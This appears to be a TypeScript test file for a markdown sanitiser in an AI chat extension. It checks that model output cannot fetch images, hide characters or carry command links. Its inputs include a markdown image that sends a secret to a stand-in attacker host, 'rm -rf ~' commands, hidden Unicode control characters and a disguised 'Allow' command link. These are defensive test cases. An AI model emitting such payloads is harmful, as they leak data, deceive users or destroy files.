import assert from "node:assert/strict";
import { test } from "node:test";
import { code, dim, escape, harmless } from "../../src/markdown";
import { visible } from "../../src/visible";

test("pictures and HTML of a model are shown as text, and fetch nothing", () => {
  assert.equal(harmless("![x](https://evil.example/?q=secret) <img src=x> <b>"), "!\\[x](https://evil.example/?q=secret) &lt;img src=x> &lt;b>");
  assert.equal(harmless("a Vec<String>, 1 < 2"), "a Vec&lt;String>, 1 < 2");
  assert.equal(harmless("</span><!-- -->"), "&lt;/span>&lt;!-- -->");
});

test("code stays as it is", () => {
  for (const text of ["`Vec<String>` and ``a`<b>``", "```html\n<b>![x](y)</b>\n```\n", "~~~\n<b>\n", "````\n```\n<b>\n````"]) assert.equal(harmless(text), text);
  assert.equal(harmless("```\n<b>\n```\n<b>"), "```\n<b>\n```\n&lt;b>");
  assert.equal(harmless("a ` b <b>\n\nc ` <i>"), "a ` b &lt;b>\n\nc ` &lt;i>", "a span of code ends within its paragraph");
});

test("a partial answer is dimmed also when it ends in a block of code", () => {
  assert.equal(dim("text\n```go\nfunc"), `${span("text")}\n\`\`\`go\nfunc\n\`\`\``);
});

const span = (words: string): string => `<span style="color:var(--vscode-disabledForeground);">${words}</span>`;

test("dimmed text stays what it is in markdown, and can be broken into lines", () => {
  assert.equal(dim("# One two\n\n- a **bold word** and `code`\n1. b"), `# ${span("One two")}\n\n- ${span("a")} **bold word** ${span("and")} ${span("`code`")}\n1. ${span("b")}`);
  assert.equal(dim("| a | b |\n|---|---|"), `| ${span("a")} | ${span("b")} |\n|---|---|`);
  for (const text of ["one two three four five six seven eight nine ten", "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十", "a-very-long-word-that-has-no-end-and-goes-on", "x <b> 😀".repeat(9), "  "]) {
    const spans = [...dim(text).matchAll(/<span[^>]*>([^<]*)<\/span>/g)].map((m) => m[1] ?? "");
    assert.ok(spans.every((s) => s.length <= 48), text);
    assert.equal(dim(text).replace(/<\/?span[^>]*>/g, ""), harmless(text), "no character is lost");
  }
});

test("what the user and others said is no markdown", () => {
  assert.equal(escape("*a* _b_ [c](d) `e`"), "\\*a\\* \\_b\\_ \\[c\\]\\(d\\) \\`e\\`");
  assert.equal(code("a `b` c"), "``a `b` c``");
  assert.equal(code("`a"), "`` `a ``");
});

test("a command in a message hides nothing and links to nothing", () => {
  assert.equal(visible("rm -rf x\u202e\u0007\n# \u200bok"), "rm -rf x\\u{202e}\\u{7}⏎# \\u{200b}ok");
  assert.ok(!/\]\(/.test(visible("[Allow](command:workbench.action.quit)")));
  const long = visible("a".repeat(700) + "; rm -rf ~");
  assert.ok(long.endsWith("; rm -rf ~") && [...long].length < 650);
});
